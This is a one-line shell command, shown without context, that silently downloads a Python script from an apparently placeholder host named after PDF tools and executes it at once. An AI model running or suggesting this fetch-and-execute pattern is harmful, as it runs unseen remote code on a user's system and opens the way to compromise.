python3 -c "$(curl -s https://pdf-tools.example/x.py)"
